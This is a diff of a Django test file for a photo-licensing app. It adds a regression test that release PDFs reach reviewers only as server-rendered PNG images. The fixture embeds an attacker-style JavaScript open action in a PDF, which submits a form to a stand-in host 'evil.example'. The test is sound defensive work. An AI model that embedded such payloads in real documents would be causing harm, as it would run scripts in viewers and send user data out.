@@ -1,14 +1,15 @@
+import io
 import re
 from datetime import date
 
 import pytest
 from django.core import mail
 from django.urls import reverse
+from PIL import Image
 
 from catalog.models import Photo
 from licensing.consent import selectors, services
 from licensing.consent.tests.factories import (
-    PDF,
     BuyerFactory,
     ContributorFactory,
     PhotoFactory,
@@ -121,14 +122,58 @@ def test_the_release_document_is_for_staff_only(client, contributor, reviewer):
         login(client, user)
         assert body_404(client.get(url)) == body_404(client.get("/no-such-page/")), user
     login(client, reviewer)
-    response = client.get(url)
-    assert response.status_code == 200
-    assert response["Content-Type"] == "application/pdf"
-    assert response["Cache-Control"] == "private, no-store"
-    assert b"".join(response.streaming_content) == PDF
+    # This test PDF has no page PDFium can draw: nothing is shown, and never the PDF itself.
+    assert client.get(url).status_code == 404
+    page = client.get(reverse("licensing:review_release", args=[release.uuid])).content.decode()
+    assert 'data-testid="document-unreadable"' in page and "<iframe" not in page
     # Nowhere else: no URL in the API, and private storage has none at all.
     login(client, contributor)
     assert "document_url" not in client.get(f"/api/v1/releases/{release.uuid}/").json()
+
+
+def pdf_with_script() -> bytes:
+    """A two-page PDF that runs JavaScript when opened (an OpenAction), as an attacker would upload."""
+    from pypdf import PdfReader, PdfWriter
+    from pypdf.actions import JavaScript
+    from reportlab.pdfgen import canvas
+
+    buffer = io.BytesIO()
+    c = canvas.Canvas(buffer, pagesize=(595, 842))
+    for n in (1, 2):
+        c.drawString(72, 770, f"Model release, page {n}")
+        c.showPage()
+    c.save()
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(buffer.getvalue())))
+    writer.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('https://evil.example/');"))
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def test_a_release_pdf_reaches_reviewers_only_as_server_rendered_images(client, contributor, reviewer):
+    """Replay (issue 18): release PDFs were shown to reviewers as PDFs, with whatever scripts they carry."""
+    data = pdf_with_script()
+    assert b"/JavaScript" in data
+    release = make_release(contributor, document=pdf_upload(data=data))
+    login(client, reviewer)
+    page = client.get(reverse("licensing:review_release", args=[release.uuid])).content.decode()
+    url = reverse("licensing:release_document", args=[release.uuid])
+    assert "<iframe" not in page
+    assert page.count('data-testid="document-page"') == 2
+    assert f'src="{url}?page=1"' in page and f'src="{url}?page=2"' in page
+    for number in (1, 2):
+        response = client.get(url, {"page": number})
+        assert response.status_code == 200 and response["Content-Type"] == "image/png"
+        assert response["Cache-Control"] == "private, no-store"
+        assert response.content.startswith(b"\x89PNG") and b"%PDF" not in response.content
+        with Image.open(io.BytesIO(response.content)) as image:
+            assert image.width == 1400 and image.height > image.width
+    plain = client.get(url)
+    assert plain["Content-Type"] == "image/png"  # the default is page 1, never the PDF
+    for bad in ("3", "0", "-1", "x", "١"):
+        assert client.get(url, {"page": bad}).status_code == 404
+    login(client, contributor)
+    assert client.get(url, {"page": 1}).status_code == 404
 
 
 # --- Creating through the portal --------------------------------------------------------------
@@ -237,6 +282,9 @@ def test_the_subject_withdraws_through_the_secret_link_without_logging_in(client
     release = make_release(contributor, approve_by=reviewer)
     attach(release, photo)
     path = services.release_withdrawal_link_issue(release=release)
+    # Not approved yet: its thumbnail is private, so the page shows a placeholder instead.
+    assert "/media/public/thumbs/aa/x.jpg" not in client.get(path).content.decode()
+    Photo.objects.filter(pk=photo.pk).update(status=Photo.Status.APPROVED)
 
     page = client.get(path)
     text = page.content.decode()
@@ -362,7 +410,7 @@ def test_a_decision_moves_on_to_the_next_item_and_is_shown_on_the_item(client, c
     page = client.get(reverse("licensing:review_release", args=[first.uuid]))
     text = page.content.decode()
     assert "Yamada Hanako" in text  # staff see the personal data
-    assert reverse("licensing:release_document", args=[first.uuid]) in text
+    assert 'data-testid="document-unreadable"' in text  # the test PDF has no page to draw
     response = client.post(
         reverse("licensing:review_release", args=[first.uuid]) + "?kind=releases",
         {"action": "reject", "reason": "release:dates_inconsistent", "note": "Signed before birth?"},
